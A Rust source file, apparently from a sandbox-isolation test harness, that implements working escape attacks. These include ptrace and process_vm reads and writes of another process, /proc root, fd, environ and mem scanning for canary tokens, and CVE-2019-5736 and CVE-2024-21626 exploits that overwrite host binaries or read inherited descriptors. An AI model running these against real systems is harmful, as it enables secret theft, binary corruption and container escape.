//! Attacks on processes: ptrace, foreign memory, foreign descriptors, and the doors of /proc.

use std::fs::OpenOptions;
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::MetadataExt as _;

use crate::raw::{address, address_mut, call, fork, own, wait};
use crate::report::{Act, Outcome, Step as _, argument, without_effect};

/// The attacks of this file.
pub(crate) const ACTS: &[(&str, Act)] = &[
    ("ptrace-child", ptrace_child),
    ("process-vm-readv", process_vm_readv),
    ("process-vm-writev", process_vm_writev),
    ("process-madvise", process_madvise),
    ("pidfd-getfd", pidfd_getfd),
    ("kcmp", kcmp),
    ("proc-doors", proc_doors),
    ("proc-environ", proc_environ),
    ("proc-exe", proc_exe),
    ("overwrite-exe", overwrite_exe),
    ("watch-environ", watch_environ),
    ("proc-mem", proc_mem),
    ("descriptors", descriptors),
    ("inherited-token", inherited_token),
    ("kill-outside", kill_outside),
];

const SECRET: u64 = 0x7365_6372_6574_2121;

/// A child that holds `SECRET` in memory (at the same address as here) until it is killed.
struct Victim {
    pid: i32,
    secret: Box<u64>,
}

impl Victim {
    fn new() -> Result<Self, i32> {
        let mut secret = Box::new(0_u64);
        let (mut reader, mut writer) = std::io::pipe().map_err(|error| error.raw_os_error().unwrap_or(-1))?;
        let pid = fork(|| {
            *secret = SECRET;
            if writer.write_all(b"x").is_err() {
                return 1;
            }
            loop {
                std::thread::park();
            }
        })?;
        let mut ready = [0_u8; 1];
        reader.read_exact(&mut ready).map_err(|error| error.raw_os_error().unwrap_or(-1))?;
        Ok(Self { pid, secret })
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        if call(libc::SYS_kill, &[self.pid as u64, libc::SIGKILL as u64]).is_ok() {
            wait(self.pid);
        }
    }
}

fn ptrace_child(_: &[String]) -> Outcome {
    let victim = Victim::new().step("fork")?;
    let pid = victim.pid as u64;
    call(libc::SYS_ptrace, &[u64::from(libc::PTRACE_ATTACH), pid, 0, 0]).step("ptrace")?;
    wait(victim.pid);
    let mut word = 0_u64;
    let arguments = [u64::from(libc::PTRACE_PEEKDATA), pid, address(&*victim.secret), address_mut(&mut word)];
    call(libc::SYS_ptrace, &arguments).step("ptrace peek")?;
    found(word)
}

fn found(word: u64) -> Outcome {
    if word == SECRET { Ok("the secret of another process was read".to_owned()) } else { without_effect("read") }
}

fn process_vm_readv(_: &[String]) -> Outcome {
    let victim = Victim::new().step("fork")?;
    let mut word = 0_u64;
    let local = [address_mut(&mut word), 8];
    let remote = [address(&*victim.secret), 8];
    let arguments = [victim.pid as u64, address(&local), 1, address(&remote), 1, 0];
    call(libc::SYS_process_vm_readv, &arguments).step("process_vm_readv")?;
    found(word)
}

fn process_vm_writev(_: &[String]) -> Outcome {
    let victim = Victim::new().step("fork")?;
    let word = 1_u64;
    let local = [address(&word), 8];
    let remote = [address(&*victim.secret), 8];
    let arguments = [victim.pid as u64, address(&local), 1, address(&remote), 1, 0];
    let count = call(libc::SYS_process_vm_writev, &arguments).step("process_vm_writev")?;
    Ok(format!("{count} bytes of another process were overwritten"))
}

fn process_madvise(_: &[String]) -> Outcome {
    let victim = Victim::new().step("fork")?;
    let pidfd = own(call(libc::SYS_pidfd_open, &[victim.pid as u64, 0]).step("pidfd_open")?);
    let page = address(&*victim.secret) & !0xfff;
    let remote = [page, 4096];
    let arguments = [pidfd.as_raw_fd() as u64, address(&remote), 1, libc::MADV_COLD as u64, 0];
    let count = call(libc::SYS_process_madvise, &arguments).step("process_madvise")?;
    Ok(format!("{count} bytes of another process were advised about"))
}

/// Takes a descriptor out of a child and reads a token through it.
fn pidfd_getfd(_: &[String]) -> Outcome {
    let victim = Victim::new().step("fork")?;
    let pidfd = own(call(libc::SYS_pidfd_open, &[victim.pid as u64, 0]).step("pidfd_open")?);
    let fd = own(call(libc::SYS_pidfd_getfd, &[pidfd.as_raw_fd() as u64, 1, 0]).step("pidfd_getfd")?);
    Ok(format!("standard output of another process is descriptor {} here", fd.as_raw_fd()))
}

fn kcmp(_: &[String]) -> Outcome {
    let own_pid = std::process::id().into();
    let order = call(libc::SYS_kcmp, &[own_pid, own_pid, 0, 0, 1]).step("kcmp")?;
    Ok(format!("the kernel compared its own pointers: {order}"))
}

/// Every pid that /proc shows.
fn pids() -> Vec<u32> {
    let entries = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str().and_then(|name| name.parse().ok())).collect()
}

/// Looks for the canary file (first argument, a path on the host) through root, cwd and every descriptor of every
/// process; the second argument is what it holds.
fn proc_doors(arguments: &[String]) -> Outcome {
    let (path, token) = (argument(arguments, 0)?, argument(arguments, 1)?);
    let mut doors = Vec::new();
    for pid in pids() {
        doors.extend([format!("/proc/{pid}/root"), format!("/proc/{pid}/cwd")]);
        let descriptors = std::fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten();
        doors.extend(descriptors.map(|entry| entry.path().display().to_string()));
    }
    for door in &doors {
        for way in [format!("{door}{path}"), format!("{door}/../../../../../../../..{path}")] {
            if std::fs::read_to_string(&way).is_ok_and(|text| text.contains(token)) {
                return Ok(format!("{way} holds {token}"));
            }
        }
    }
    without_effect(&format!("{} doors tried", doors.len()))
}

/// Looks for a token in the environment of every process.
fn proc_environ(arguments: &[String]) -> Outcome {
    let token = argument(arguments, 0)?;
    let mut read = 0;
    for pid in pids() {
        let Ok(environment) = std::fs::read(format!("/proc/{pid}/environ")) else { continue };
        read += 1;
        if environment.windows(token.len()).any(|window| window == token.as_bytes()) {
            return Ok(format!("/proc/{pid}/environ holds {token}"));
        }
    }
    if read == 0 { without_effect("no environment could be read") } else { without_effect("environ") }
}

/// CVE-2019-5736: get hold of a program outside through /proc/PID/exe and overwrite it. A program counts as outside
/// when it is neither this one nor in this root. The first argument is what to write, so that a test can find it.
fn proc_exe(arguments: &[String]) -> Outcome {
    let token = argument(arguments, 0)?;
    let mine = std::fs::metadata("/proc/self/exe").step("stat /proc/self/exe")?;
    let mut last = without_effect("no foreign program was seen");
    for pid in pids() {
        let path = format!("/proc/{pid}/exe");
        let Ok(seen) = std::fs::metadata(&path) else { continue };
        let inside = std::fs::read_link(&path).is_ok_and(|link| {
            std::fs::metadata(link).is_ok_and(|file| (file.dev(), file.ino()) == (seen.dev(), seen.ino()))
        });
        if inside || (seen.dev(), seen.ino()) == (mine.dev(), mine.ino()) {
            continue;
        }
        last = overwrite(&path, pid, token);
        if last.is_ok() {
            return last;
        }
    }
    last
}

/// Holds the program open, ends the process that runs it, and writes to it through the held descriptor.
fn overwrite(path: &str, pid: u32, token: &str) -> Outcome {
    let held = std::fs::File::open(path).step("open exe")?;
    let program = std::fs::read_link(path).step("readlink exe")?;
    if !program.display().to_string().contains("victim") {
        return Err(crate::report::Failure { step: format!("saw {} and left it alone", program.display()), errno: 0 });
    }
    call(libc::SYS_kill, &[u64::from(pid), libc::SIGKILL as u64]).step("kill")?;
    let again = format!("/proc/self/fd/{}", held.as_raw_fd());
    for _ in 0..1000 {
        match OpenOptions::new().write(true).truncate(true).open(&again) {
            Ok(mut file) => {
                file.write_all(token.as_bytes()).step("write")?;
                return Ok(format!("{} was overwritten", program.display()));
            }
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => std::thread::yield_now(),
            Err(error) => return Err(error).step("open for writing"),
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    Err(libc::ETXTBSY).step("open for writing")
}

/// As `proc-environ` and `proc-mem`, over and over: for processes that are there for a moment only.
fn watch_environ(arguments: &[String]) -> Outcome {
    println!("watching");
    loop {
        for found in [proc_environ(arguments), proc_mem(arguments)].into_iter().flatten() {
            println!("found {found}");
        }
    }
}

/// As `proc-exe`, against programs that are there for a moment only, such as a runtime on its way into the container:
/// collects descriptors of every foreign program for as long as it lives, and tries to write through each.
fn overwrite_exe(arguments: &[String]) -> Outcome {
    let token = argument(arguments, 0)?;
    println!("watching");
    let mut held: Vec<(std::fs::File, std::path::PathBuf)> = Vec::new();
    loop {
        for pid in pids() {
            let path = format!("/proc/{pid}/exe");
            let Ok(link) = std::fs::read_link(&path) else { continue };
            if link.starts_with("/attacker") || link.starts_with("/bin") || held.iter().any(|(_, seen)| *seen == link) {
                continue;
            }
            if let Ok(program) = std::fs::File::open(&path) {
                println!("held {}", link.display());
                held.push((program, link));
            }
        }
        for (program, link) in &held {
            let again = format!("/proc/self/fd/{}", program.as_raw_fd());
            let written =
                OpenOptions::new().write(true).open(again).and_then(|mut file| file.write_all(token.as_bytes()));
            if written.is_ok() {
                println!("overwrote {}", link.display());
                return Ok(format!("{} was overwritten", link.display()));
            }
        }
    }
}

/// Reads the memory of every other process: /proc/PID/mem at the address of its auxiliary vector's page.
fn proc_mem(arguments: &[String]) -> Outcome {
    let token = argument(arguments, 0)?.as_bytes();
    for pid in pids().into_iter().filter(|pid| *pid != std::process::id()) {
        let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
        let Ok(memory) = std::fs::File::open(format!("/proc/{pid}/mem")) else { continue };
        for line in maps.lines().filter(|line| line.contains("[stack]") || line.contains("[heap]")) {
            let Some((start, end)) = line.split(' ').next().and_then(|range| range.split_once('-')) else { continue };
            let (Ok(start), Ok(end)) = (u64::from_str_radix(start, 16), u64::from_str_radix(end, 16)) else { continue };
            let mut bytes = vec![0_u8; (end - start) as usize];
            let read = std::os::unix::fs::FileExt::read_at(&memory, &mut bytes, start).unwrap_or(0);
            if bytes.iter().take(read).copied().collect::<Vec<u8>>().windows(token.len()).any(|window| window == token)
            {
                return Ok(format!("the memory of process {pid} holds the token"));
            }
        }
    }
    without_effect("mem")
}

/// Descriptors beyond the three that everybody gets: each is a leak of the runtime.
fn descriptors(_: &[String]) -> Outcome {
    let mut leaked = Vec::new();
    for fd in 3..4096_u64 {
        if call(libc::SYS_fcntl, &[fd, libc::F_GETFD as u64]).is_ok() {
            leaked.push(std::fs::read_link(format!("/proc/self/fd/{fd}")).step("readlink")?.display().to_string());
        }
    }
    if leaked.is_empty() { without_effect("no descriptor beyond 2") } else { Ok(leaked.join(" ")) }
}

/// Reads a token through an inherited descriptor (CVE-2024-21626): any descriptor from 3 on.
fn inherited_token(arguments: &[String]) -> Outcome {
    let token = argument(arguments, 0)?;
    for fd in 3..1024_i32 {
        if call(libc::SYS_fcntl, &[fd as u64, libc::F_GETFD as u64]).is_err() {
            continue;
        }
        let file = own(fd as u64);
        let mut text = String::new();
        if std::fs::File::from(file).read_to_string(&mut text).is_ok() && text.contains(token) {
            return Ok(format!("descriptor {fd} gave the token"));
        }
    }
    without_effect("no inherited descriptor gave the token")
}

/// Kills a process outside by its pid on the host.
fn kill_outside(arguments: &[String]) -> Outcome {
    let pid: u64 = argument(arguments, 0)?.parse().unwrap_or(u64::MAX >> 1);
    call(libc::SYS_kill, &[pid, libc::SIGTERM as u64]).step("kill")?;
    Ok(format!("process {pid} was signalled"))
}
